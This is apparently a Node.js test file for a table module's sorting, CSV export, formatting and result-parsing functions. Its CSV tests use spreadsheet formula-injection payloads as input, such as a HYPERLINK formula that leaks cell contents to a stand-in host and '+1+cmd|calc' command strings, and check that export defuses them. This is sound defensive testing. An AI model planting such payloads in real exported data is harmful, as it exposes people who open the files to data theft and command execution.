import { test } from 'node:test';
import assert from 'node:assert/strict';
import { sortRows, toCSV, formatCell, nextSort, parsePipeResult, parseSourcesText, csvFileName } from '../../assets/js/table.js';

test('sort numbers, decimals as strings, big integers, nulls last', () => {
  const rows = [[3], [null], ['10.5'], [-1], ['2']];
  assert.deepEqual(sortRows(rows, 0, 'decimal', 'asc').map((r) => r[0]), [-1, '2', 3, '10.5', null]);
  assert.deepEqual(sortRows(rows, 0, 'decimal', 'desc').map((r) => r[0]), ['10.5', 3, '2', -1, null]);
  const big = [['9007199254740993'], ['9007199254740992'], ['-5']];
  assert.deepEqual(sortRows(big, 0, 'integer').map((r) => r[0]), ['-5', '9007199254740992', '9007199254740993']);
});

test('sort text naturally and stably, dates as ISO text', () => {
  assert.deepEqual(sortRows([['b2'], ['B10'], ['a'], ['b1']], 0, 'text').map((r) => r[0]), ['a', 'b1', 'b2', 'B10']);
  const stable = [['x', 1], ['y', 2], ['x', 3]];
  assert.deepEqual(sortRows(stable, 0, 'text').map((r) => r[1]), [1, 3, 2]);
  assert.deepEqual(sortRows([['2024-02-01'], ['2023-12-31']], 0, 'date').map((r) => r[0]), ['2023-12-31', '2024-02-01']);
  assert.deepEqual(sortRows([[true], [false]], 0, 'boolean').map((r) => r[0]), [false, true]);
});

test('nextSort cycles asc, desc, none', () => {
  let s = nextSort(null, 1);
  assert.deepEqual(s, { col: 1, dir: 'asc' });
  s = nextSort(s, 1);
  assert.deepEqual(s, { col: 1, dir: 'desc' });
  assert.equal(nextSort(s, 1), null);
  assert.deepEqual(nextSort(s, 2), { col: 2, dir: 'asc' });
});

test('CSV quoting, nulls, nested values', () => {
  const cols = [{ name: 'name' }, { name: 'n, total' }, { name: 'tags' }];
  const csv = toCSV(cols, [['a "b"', 1, ['x', 'y']], [null, 2.5, null], ['line\nbreak', -3, { k: 1 }], [' pad', 0, '=1+1']]);
  assert.equal(csv,
    'name,"n, total",tags\r\n' +
    '"a ""b""",1,"[""x"",""y""]"\r\n' +
    ',2.5,\r\n' +
    '"line\nbreak",-3,"{""k"":1}"\r\n' +
    '" pad",0,\'=1+1\r\n');
});

test('CSV: text a spreadsheet would run as a formula is defused, numbers are not', () => {
  const cols = [{ name: 'v' }];
  const rows = [['=HYPERLINK("http://x/?"&A1)'], ['+1+cmd|calc'], ['-2+3'], ['@SUM(A1)'], ['\tx'], ['\r=1'],
    ['-3'], ['+4.5'], ['-1e3'], [-7], ['a=b'], ['email@x.org']];
  assert.equal(toCSV(cols, rows),
    'v\r\n' +
    '"\'=HYPERLINK(""http://x/?""&A1)"\r\n' +
    "'+1+cmd|calc\r\n" +
    "'-2+3\r\n" +
    "'@SUM(A1)\r\n" +
    "'\tx\r\n" +
    '"\'\r=1"\r\n' +
    '-3\r\n+4.5\r\n-1e3\r\n-7\r\na=b\r\nemail@x.org\r\n');
});

test('CSV: full-width and whitespace-led formulas are defused too', () => {
  const cols = [{ name: 'v' }];
  const cases = [
    // [cell, CSV field]
    ['＝1+1', "'＝1+1"],
    ['＋1+cmd|calc', "'＋1+cmd|calc"],
    ['－2+3', "'－2+3"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    [' =1+1', "' =1+1"],
    ['   +cmd', "'   +cmd"],
    ['\u00a0=HYPERLINK("http://x/?"&A1)', '"\'\u00a0=HYPERLINK(""http://x/?""&A1)"'],
    ['\u3000＝1', "'\u3000＝1"],
    ['\n=1', '"\'\n=1"'],
    ['\t =1', "'\t =1"],
    ['\u200b=1', "'\u200b=1"],
    ['\ufeff@x', "'\ufeff@x"],
    ['\u2003 ＠x', "'\u2003 ＠x"],
    // not formulas: left as they are
    [' -5', '" -5"'],
    ['\t-5', '"\t-5"'],
    ['\t -1', '"\t -1"'],
    ['a ＝ b', 'a ＝ b'],
    ['total=3', 'total=3'],
    ['＄5', '＄5'],
  ];
  for (const [cell, want] of cases) {
    assert.equal(toCSV(cols, [[cell]]), `v\r\n${want}\r\n`, JSON.stringify(cell));
  }
  // A header can carry one as well.
  assert.equal(toCSV([{ name: ' ＝cmd' }], []), "' ＝cmd\r\n");
});

test('formatCell', () => {
  assert.equal(formatCell(null, 'text'), 'NULL');
  assert.equal(formatCell(1 / 3, 'float'), '0.333333');
  assert.equal(formatCell(12, 'float'), '12');
  assert.equal(formatCell({ a: 1 }, 'struct'), '{"a":1}');
  assert.equal(formatCell('<b>', 'text'), '<b>');
});

test('csvFileName', () => {
  assert.equal(csvFileName('SELECT * FROM penguins WHERE x'), 'penguins.csv');
  assert.equal(csvFileName('SELECT 1'), 'result.csv');
});

test('parsePipeResult reads what the model received', () => {
  const r = parsePipeResult('species | n | avg_mass | first_seen\nAdelie | 152 | 3700.66 | 2007-11-11\nGentoo | 124 | NULL | 2007-11-27\n(2 rows)');
  assert.deepEqual(r.columns.map((c) => c.type), ['text', 'integer', 'float', 'date']);
  assert.deepEqual(r.rows[0], ['Adelie', 152, 3700.66, '2007-11-11']);
  assert.equal(r.rows[1][2], null);
  assert.equal(r.row_count, 2);
  assert.equal(parsePipeResult('a | b\n1 | 2 | 3\n(1 row)'), null);
  assert.equal(parsePipeResult('Error: no such table'), null);
  const t = parsePipeResult('x\n1\n(1000 rows; more rows exist: the result was cut at 1000; only the first 200 are shown here: aggregate in SQL instead of reading rows)');
  assert.equal(t.truncated, true);
  assert.equal(t.partial, true);
});

test('parseSourcesText', () => {
  const m = parseSourcesText('[1] report.pdf, page 3\nRevenue grew.\n\n[2] notes.md, section "Intro"\nHello\nworld');
  assert.deepEqual(m.get(1).metadata, { document: 'report.pdf', page: 3 });
  assert.equal(m.get(1).text, 'Revenue grew.');
  assert.deepEqual(m.get(2).metadata, { document: 'notes.md', heading: 'Intro' });
  assert.equal(m.get(2).text, 'Hello\nworld');
});
